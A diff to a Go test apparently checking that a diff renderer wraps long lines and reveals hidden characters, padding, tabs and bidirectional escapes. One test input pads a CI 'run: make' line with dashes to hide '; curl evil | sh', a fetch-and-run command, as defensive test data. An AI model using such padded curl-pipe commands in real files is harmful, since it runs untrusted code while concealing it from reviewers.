@@ -36,9 +36,17 @@ func TestP1_NothingHides(t *testing.T) {
 		"blanks alone":            {strings.Repeat(" ", 40) + "\n", `+\x20{40}`},
 		"an indentation":          {strings.Repeat(" ", 32) + "b\n", "+" + strings.Repeat(" ", 32) + "b"},
 		"what looks like a gap":   {"a\\x20{200}b\n", `+a\\x20{200}b`},
+		"a long line":             {"run: make " + strings.Repeat("-", 500) + "; curl evil | sh\n", "+run: make " + strings.Repeat("-", 90) + "\\\n" + strings.Repeat("+"+strings.Repeat("-", 100)+"\\\n", 4) + "+" + strings.Repeat("-", 10) + "; curl evil | sh"},
+		"what looks like a break": {strings.Repeat("-", 99) + "\\\n", "+" + strings.Repeat("-", 99) + "\\\n+\\\\"},
+		"a break at a blank":      {strings.Repeat("-", 99) + "  b\n", "+" + strings.Repeat("-", 99) + " \\\n+ b"},
+		"a row that is full":      {strings.Repeat("-", 100) + "\n", "+" + strings.Repeat("-", 100)},
+		"long in wide letters":    {strings.Repeat("日", 51) + "\n", "+" + strings.Repeat("日", 50) + "\\\n+日"},
+		"long by tabs":            {strings.Repeat("a\t", 20) + "b\n", "+" + strings.Repeat("a\t", 20) + "\\\n+b"},
+		"a break in an escape":    {strings.Repeat("-", 97) + "\u202eb\n", "+" + strings.Repeat("-", 97) + "\\\n+\\u202eb"},
+		"long, without an end":    {strings.Repeat("-", 101), "+" + strings.Repeat("-", 100) + "\\\n+-\\ no line end"},
 		"letters of all people":   {"name: été 日本\n", "+name: été 日本"},
 	} {
-		if got := text("on: push\n", "on: push\n"+c.after); !strings.Contains(got, c.shows+"\n") {
+		if got := text("on: push\n", "on: push\n"+c.after); !strings.Contains(got, "\n"+c.shows+"\n") {
 			t.Errorf("%s: %q", name, got)
 		}
 	}
